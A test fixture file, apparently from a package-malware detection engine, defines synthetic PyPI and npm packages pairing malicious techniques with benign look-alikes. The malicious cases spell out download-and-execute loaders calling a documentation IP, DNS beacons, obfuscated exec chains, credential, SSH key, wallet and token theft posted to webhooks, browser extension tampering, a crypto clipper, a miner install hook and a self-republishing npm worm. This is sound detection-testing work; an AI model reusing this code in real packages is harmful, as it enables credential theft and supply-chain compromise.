@@ -1,0 +1,412 @@
+"""Synthetic packages for issue 12, part 3: one malicious technique each, and the benign idiom next
+to it that must stay low. Written for these tests (inert strings: the engine only reads text).
+
+Each table maps a case id to its files (path below the package root -> text). PyPI cases without
+a setup.py get a plain one (see package()). bench/detection.py --synthetic measures recall on these,
+npm apart from PyPI.
+"""
+
+import json
+
+HOOK = "http://203.0.113.7"  # TEST-NET-3: documentation addresses only
+
+
+def setup_py(body: str, name: str = "helper-lib") -> str:
+    return f"from setuptools import setup\n{body}\nsetup(name={name!r}, version='1.0.0', packages=['pkg'])\n"
+
+
+def pkg_json(name: str, scripts: dict | None = None, **extra) -> str:
+    doc = {"name": name, "version": "1.0.0", "main": "index.js", **extra}
+    if scripts:
+        doc["scripts"] = scripts
+    return json.dumps(doc, indent=2)
+
+
+# ----------------------------------------------------------------------------- malicious (PyPI)
+
+MALICIOUS_PYPI = {
+    # Staged payloads: each step weak alone.
+    "fetch_decode_exec_split": {
+        "pkg/__init__.py": "",
+        "pkg/loader.py": (
+            "import base64, urllib.request\n\n"
+            "def _stage():\n"
+            f"    blob = urllib.request.urlopen('{HOOK}/s2').read()\n"
+            "    code = base64.b64decode(blob)\n"
+            "    exec(code)\n\n"
+            "_stage()\n"),
+    },
+    "requests_text_exec_in_setup": {
+        "setup.py": setup_py(
+            "import requests\n"
+            f"resp = requests.get('{HOOK}/init')\n"
+            "payload = resp.text\n"
+            "exec(compile(payload, '<init>', 'exec'))\n"),
+    },
+    "curl_reply_executed": {
+        "setup.py": setup_py(
+            "import subprocess\n"
+            f"script = subprocess.check_output(['curl', '-fsSL', '{HOOK}/i.sh'])\n"
+            "subprocess.run(['bash', '-c', script])\n"),
+    },
+    "sh_c_curl_substitution": {
+        "setup.py": setup_py(f"import os\nos.system('sh -c \"$(curl -fsSL {HOOK}/i.sh)\"')\n"),
+    },
+    "wget_chmod_run": {
+        "setup.py": setup_py(
+            "import os\n"
+            f"os.system('wget -q {HOOK}/x -O /tmp/.cache-x && chmod +x /tmp/.cache-x && /tmp/.cache-x &')\n"),
+    },
+    "dns_beacon_dig": {
+        "setup.py": setup_py(
+            "import getpass, socket, subprocess\n"
+            "label = (getpass.getuser() + '-' + socket.gethostname()).encode().hex()\n"
+            "subprocess.getoutput('nslookup ' + label + '.u.collector-dns.example.net')\n"),
+    },
+    "dns_beacon_resolver": {
+        "pkg/__init__.py": (
+            "import os, socket\n"
+            "try:\n"
+            "    socket.gethostbyname(os.getlogin() + '.' + socket.gethostname() + '.beacon.example.org')\n"
+            "except OSError:\n"
+            "    pass\n"),
+    },
+    # Obfuscation.
+    "xor_loop_exec": {
+        "pkg/__init__.py": (
+            "_k = 0x5A\n"
+            "_d = b'\\x3b\\x2e\\x2f\\x29\\x33\\x35\\x7a\\x3f\\x28\\x28'\n"
+            "_s = ''.join(chr(b ^ _k) for b in _d)\n"
+            "exec(_s)\n"),
+    },
+    "rotation_loop_eval": {
+        "pkg/core.py": (
+            "def _r(s, n=13):\n"
+            "    return ''.join(chr((ord(c) - 97 + n) % 26 + 97) if c.islower() else c for c in s)\n"
+            "eval(_r('cevag(1)'))\n"),
+    },
+    "getattr_builtins_computed": {
+        "pkg/__init__.py": (
+            "import builtins\n"
+            "name = 'ex' + 'ec'\n"
+            "getattr(builtins, name)(open(__file__.replace('__init__.py', 'data.bin')).read())\n"),
+    },
+    "import_built_string": {
+        "pkg/__init__.py": (
+            "m = __import__('o' + 's')\n"
+            "m.system('id > /tmp/.x')\n"),
+    },
+    "import_joined_chars": {
+        "pkg/__init__.py": (
+            "mod = __import__(''.join(['s', 'u', 'b', 'p', 'r', 'o', 'c', 'e', 's', 's']))\n"
+            "mod.Popen(['sh', '-c', 'id'])\n"),
+    },
+    "exec_alias": {
+        "pkg/__init__.py": (
+            "import base64\n"
+            "run = exec\n"
+            "payload = base64.b64decode('cHJpbnQoMSk=')\n"
+            "run(payload)\n"),
+    },
+    "split_tokens_exec_b64": {
+        "pkg/__init__.py": "import base64\nexec (base64 .b64decode ('cHJpbnQoJ2hpJyk='))\n",
+    },
+    "marshal_zlib_b85_chain": {
+        "pkg/__init__.py": (
+            "import marshal, zlib, base64\n"
+            "exec(marshal.loads(zlib.decompress(base64.b85decode(b'c-p>8Wn*b{P+oB'))))\n"),
+    },
+    "b32_reversed_chain": {
+        "pkg/__init__.py": (
+            "import base64 as b, zlib as z\n"
+            "_ = lambda x: z.decompress(b.b32decode(x[::-1]))\n"
+            "eval(_(b'======AIYTQNA'))\n"),
+    },
+    "pyarmor_packed_init": {
+        "pkg/__init__.py": "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n",
+        "pkg/pyarmor_runtime_000000/__init__.py": "from .pyarmor_runtime import __pyarmor__\n",
+    },
+    "unusual_script_identifiers": {
+        "pkg/__init__.py": (
+            "import base64\n"
+            "ехес_ = exec\n"  # Cyrillic letters
+            "данные = base64.b64decode('cHJpbnQoMSk=')\n"
+            "ехес_(данные)\n"),
+    },
+    # Theft.
+    "aws_creds_to_discord": {
+        "pkg/__init__.py": (
+            "import os, requests\n"
+            "p = os.path.expanduser('~/.aws/credentials')\n"
+            "requests.post('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnop', "
+            "files={'f': open(p, 'rb')})\n"),
+    },
+    "ssh_key_to_telegram": {
+        "pkg/__init__.py": (
+            "import os, requests\n"
+            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+            "requests.post('https://api.telegram.org/bot123456:AAEabcdefghijklmnopqrstuvwxyz0123456/sendDocument', "
+            "data={'chat_id': '42'}, files={'document': key})\n"),
+    },
+    "steam_session_to_slack": {
+        "pkg/__init__.py": (
+            "import glob, os, requests\n"
+            "for f in glob.glob(os.path.expanduser('~/.steam/steam/config/loginusers.vdf')):\n"
+            "    requests.post('https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXX', "
+            "json={'text': open(f).read()})\n"),
+    },
+    "wallet_to_paste_host": {
+        "pkg/__init__.py": (
+            "import os, requests\n"
+            "w = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n"
+            "requests.post('https://transfer.sh/upload', data=open(os.path.join(w, 'seed.seco'), 'rb'))\n"),
+    },
+    "telegram_tdata_to_tunnel": {
+        "pkg/steal.py": (
+            "import os, shutil, requests\n"
+            "tdata = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
+            "shutil.make_archive('/tmp/t', 'zip', tdata)\n"
+            "requests.post('https://a1b2c3.ngrok-free.app/up', files={'z': open('/tmp/t.zip', 'rb')})\n"),
+    },
+    # Browser tampering.
+    "shortcut_load_extension": {
+        "pkg/__init__.py": (
+            "import os, win32com.client\n"
+            "shell = win32com.client.Dispatch('WScript.Shell')\n"
+            "lnk = shell.CreateShortCut(os.path.join(os.environ['USERPROFILE'], 'Desktop', 'Google Chrome.lnk'))\n"
+            "lnk.Arguments = '--load-extension=' + os.path.join(os.getenv('LOCALAPPDATA'), 'ext')\n"
+            "lnk.Save()\n"),
+    },
+    "secure_preferences_rewrite": {
+        "pkg/core.py": (
+            "import json, os\n"
+            "prefs = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Secure Preferences')\n"
+            "doc = json.load(open(prefs))\n"
+            "doc['extensions']['settings']['abcdefghijklmnopabcdefghijklmnop'] = {'path': 'C:/ext', 'state': 1}\n"
+            "json.dump(doc, open(prefs, 'w'))\n"),
+    },
+    "write_into_extensions_folder": {
+        "setup.py": setup_py(
+            "import os, shutil\n"
+            "dest = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Extensions/hook')\n"
+            "shutil.copytree(os.path.join(os.path.dirname(__file__), 'ext'), dest)\n"),
+    },
+}
+
+# ----------------------------------------------------------------------------- benign neighbours
+
+BENIGN_PYPI = {
+    # Fetches JSON, decodes an attachment and runs git: fetch + decode + a command, no code evaluation.
+    "api_client_with_subprocess": {
+        "pkg/client.py": (
+            "import base64, subprocess, requests\n\n"
+            "def fetch_attachment(url):\n"
+            "    data = requests.get(url, timeout=10).json()\n"
+            "    return base64.b64decode(data['content'])\n\n"
+            "def head():\n"
+            "    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"),
+    },
+    # A plugin system: computed getattr on a module of its own, importlib by name.
+    "plugin_loader": {
+        "pkg/plugins.py": (
+            "import importlib\n\n"
+            "def load(name):\n"
+            "    module = importlib.import_module('pkg.plugins.' + name)\n"
+            "    return getattr(module, 'Plugin')\n"),
+    },
+    # Resolves a host name from configuration (a service client), no host identity involved.
+    "dns_client": {
+        "pkg/net.py": (
+            "import socket\n\n"
+            "def resolve(host):\n"
+            "    return socket.gethostbyname(host)\n"),
+    },
+    # Reads its own config from ~/.config and posts metrics to its own API.
+    "own_config_and_api": {
+        "pkg/telemetry.py": (
+            "import json, os, requests\n\n"
+            "CONFIG = os.path.expanduser('~/.config/helper-lib/config.json')\n\n"
+            "def report(event):\n"
+            "    token = json.load(open(CONFIG)).get('token')\n"
+            "    requests.post('https://api.helper-lib.example.com/v1/events', json=event,\n"
+            "                  headers={'Authorization': f'Bearer {token}'})\n"),
+    },
+    # Caesar cipher as a teaching example, printed, not executed.
+    "cipher_toolkit": {
+        "pkg/ciphers.py": (
+            "def caesar(s, n=3):\n"
+            "    return ''.join(chr((ord(c) - 97 + n) % 26 + 97) if c.islower() else c for c in s)\n\n"
+            "def xor(data: bytes, key: int) -> bytes:\n"
+            "    return bytes(b ^ key for b in data)\n"),
+    },
+    # Opens a browser on a URL with a profile flag (a test runner's launcher).
+    "browser_launcher": {
+        "pkg/launch.py": (
+            "import subprocess, webbrowser\n\n"
+            "def open_docs():\n"
+            "    webbrowser.open('https://docs.helper-lib.example.com')\n\n"
+            "def chrome(profile_dir):\n"
+            "    subprocess.Popen(['google-chrome', '--user-data-dir=' + profile_dir, '--no-first-run'])\n"),
+    },
+    # Installs its own Slack notifier: a webhook URL from configuration, no credential files.
+    "slack_notifier": {
+        "pkg/notify.py": (
+            "import os, requests\n\n"
+            "def notify(text):\n"
+            "    url = os.environ['SLACK_WEBHOOK_URL']\n"
+            "    requests.post(url, json={'text': text})\n"),
+    },
+    # A data file of base85 and a decoder (a font or asset bundle), never evaluated.
+    "asset_decoder": {
+        "pkg/assets.py": (
+            "import base64, zlib\n\n"
+            "def load(blob: bytes) -> bytes:\n"
+            "    return zlib.decompress(base64.b85decode(blob))\n"),
+    },
+}
+
+# ----------------------------------------------------------------------------- npm incidents
+
+CLIPPER = (
+    "(function(){\n"
+    "  const re = /\\b(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g;\n"
+    "  const mine = {eth: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', btc: 'bc1qexampleexampleexampleexample0000'};\n"
+    "  const swap = s => s.replace(re, a => a.startsWith('0x') ? mine.eth : mine.btc);\n"
+    "  const f = window.fetch;\n"
+    "  window.fetch = async function(...args){ const r = await f.apply(this, args);\n"
+    "    const t = await r.clone().text(); return new Response(swap(t), r); };\n"
+    "  const o = XMLHttpRequest.prototype.open;\n"
+    "  XMLHttpRequest.prototype.open = function(){ this.addEventListener('load', function(){\n"
+    "    Object.defineProperty(this, 'responseText', {value: swap(this.responseText)}); }); return o.apply(this, arguments); };\n"
+    "  if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async function(a){\n"
+    "    if (a.method === 'eth_sendTransaction') a.params[0].to = mine.eth; return req.call(this, a); }; }\n"
+    "})();\n"
+)
+
+MALICIOUS_NPM = {
+    # event-stream/flatmap-stream: the payload is decrypted with a key from the depending package's
+    # metadata (its description), then compiled as a module.
+    "key_from_dependant_metadata": {
+        "package.json": pkg_json("stream-flat"),
+        "index.js": (
+            "var c=require('crypto'),p=process.env,k=p.npm_package_description;\n"
+            "var d=c.createDecipheriv('aes-256-cbc',c.createHash('sha256').update(k).digest(),Buffer.alloc(16));\n"
+            "var s=d.update(require('./test/data.json')[0],'hex','utf8')+d.final('utf8');\n"
+            "var m=new module.constructor;m.paths=module.paths;m._compile(s,'');\n"),
+        "test/data.json": json.dumps(["9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"]),
+    },
+    # Account takeover: a new preinstall fetching a miner.
+    "hijacked_preinstall_miner": {
+        "package.json": pkg_json("ua-helper", {"preinstall": "node setup.js"}),
+        "setup.js": (
+            "const {execSync}=require('child_process');const os=require('os');\n"
+            f"const url='{HOOK}/download/'+(os.platform()==='win32'?'sdd.dll':'jsextension');\n"
+            "execSync(`curl -sk ${url} -o ${os.tmpdir()}/jsext && chmod +x ${os.tmpdir()}/jsext && "
+            "${os.tmpdir()}/jsext -o pool.supportxmr.com:443 -u 4Axyz --background`);\n"),
+        "index.js": "module.exports = s => s;\n",
+    },
+    # Account takeover: a new postinstall fetching a stealer script and evaluating it.
+    "hijacked_postinstall_stealer": {
+        "package.json": pkg_json("color-utils-x", {"postinstall": "node lib/post.js"}),
+        "lib/post.js": (
+            "const https=require('https');\n"
+            f"https.get('{HOOK}/p.js',r=>{{let b='';r.on('data',c=>b+=c);r.on('end',()=>{{new Function(b)();}});}});\n"),
+        "index.js": "module.exports = {};\n",
+    },
+    # Typosquat of a popular name with an install script that beacons the environment.
+    "typosquat_install_script": {
+        "package.json": pkg_json("expresss", {"postinstall": "node i.js"}),
+        "i.js": (
+            "const os=require('os'),https=require('https');\n"
+            "const d=JSON.stringify({u:os.userInfo().username,h:os.hostname(),c:process.cwd(),e:process.env});\n"
+            "const r=https.request({hostname:'203.0.113.7',path:'/c',method:'POST'});r.write(d);r.end();\n"),
+        "index.js": "module.exports = require('express');\n",
+    },
+    # Browser-bundle crypto clipper hooking fetch/XMLHttpRequest/ethereum and swapping addresses.
+    "fetch_xhr_clipper": {
+        "package.json": pkg_json("web3-format-utils"),
+        "index.js": CLIPPER,
+    },
+    # Worm: reads npm tokens and republishes itself into the victim's packages.
+    "npm_token_worm": {
+        "package.json": pkg_json("build-cache-helper", {"postinstall": "node bundle.js"}),
+        "bundle.js": (
+            "const fs=require('fs'),os=require('os'),path=require('path'),{execSync}=require('child_process');\n"
+            "const rc=fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8');\n"
+            "const token=(rc.match(/_authToken=(.+)/)||[])[1]||process.env.NPM_TOKEN;\n"
+            "const who=JSON.parse(execSync(`curl -s -H 'Authorization: Bearer ${token}' https://registry.npmjs.org/-/whoami`));\n"
+            "for (const p of JSON.parse(execSync(`npm access list packages ${who.username} --json`))) {\n"
+            "  execSync(`npm pack ${p} && tar xzf *.tgz && cp bundle.js package/ && npm version patch && npm publish`,"
+            "{env:{...process.env,NPM_TOKEN:token}});\n"
+            "}\n"),
+    },
+    # Discord token stealer reading the client's LevelDB and posting to a webhook.
+    "discord_token_stealer": {
+        "package.json": pkg_json("discord-utilities-pro", {"preinstall": "node index.js"}),
+        "index.js": (
+            "const fs=require('fs'),path=require('path');\n"
+            "const dir=path.join(process.env.APPDATA,'discord','Local Storage','leveldb');\n"
+            "let found=[];for(const f of fs.readdirSync(dir)){\n"
+            "  const m=fs.readFileSync(path.join(dir,f),'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g);\n"
+            "  if(m) found.push(...m);}\n"
+            "fetch('https://discord.com/api/webhooks/111111111111111111/token',{method:'POST',"
+            "headers:{'content-type':'application/json'},body:JSON.stringify({content:found.join('\\n')})});\n"),
+    },
+    # A dependency whose index decodes a hex payload and runs it through eval, staged from a URL.
+    "staged_fetch_eval": {
+        "package.json": pkg_json("tiny-loader-js"),
+        "index.js": (
+            "const h=require('https');\n"
+            f"h.get('{HOOK}/k',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(Buffer.from(d,'base64').toString()));}});\n"
+            "module.exports=()=>{};\n"),
+    },
+}
+
+BENIGN_NPM = {
+    # Wraps fetch for retries (a common idiom) without touching responses.
+    "fetch_retry_wrapper": {
+        "package.json": pkg_json("fetch-retry-lite"),
+        "index.js": (
+            "module.exports = function withRetry(fetchImpl = globalThis.fetch, tries = 3) {\n"
+            "  return async function (...args) {\n"
+            "    for (let i = 0; ; i++) { try { return await fetchImpl(...args); } catch (e) { if (i >= tries) throw e; } }\n"
+            "  };\n};\n"),
+    },
+    # Validates wallet addresses (a web3 utility).
+    "address_validator": {
+        "package.json": pkg_json("eth-address-check"),
+        "index.js": "const re=/^0x[a-fA-F0-9]{40}$/;module.exports=a=>re.test(a);\n",
+    },
+    # Decrypts the user's own data with a key they pass (a crypto helper), never runs it.
+    "decrypt_helper": {
+        "package.json": pkg_json("aes-box"),
+        "index.js": (
+            "const crypto = require('crypto');\n"
+            "module.exports.open = (key, iv, hex) => {\n"
+            "  const d = crypto.createDecipheriv('aes-256-cbc', key, iv);\n"
+            "  return d.update(hex, 'hex', 'utf8') + d.final('utf8');\n};\n"),
+    },
+    # A template engine compiling templates to functions (new Function) and decoding base64 assets.
+    "template_compiler": {
+        "package.json": pkg_json("tiny-tpl"),
+        "index.js": (
+            "module.exports.compile = src => new Function('data', 'return `' + src.replace(/`/g, '\\\\`') + '`');\n"
+            "module.exports.asset = b64 => Buffer.from(b64, 'base64');\n"),
+    },
+    # Native build at install.
+    "native_build": {
+        "package.json": pkg_json("fast-hash-native", {"install": "node-gyp rebuild"}),
+        "index.js": "module.exports = require('./build/Release/hash.node');\n",
+    },
+}
+
+
+def package(ecosystem: str, files: dict[str, str]) -> tuple[dict[str, str], str]:
+    """The files as an archive would hold them, and the archive's top folder."""
+    if ecosystem == "pypi":
+        return ({"setup.py": setup_py("")} | files if "setup.py" not in files else files), "pkg-1.0/"
+    return files, "package/"
+
+
+CASES = {("pypi", True): MALICIOUS_PYPI, ("pypi", False): BENIGN_PYPI,
+         ("npm", True): MALICIOUS_NPM, ("npm", False): BENIGN_NPM}
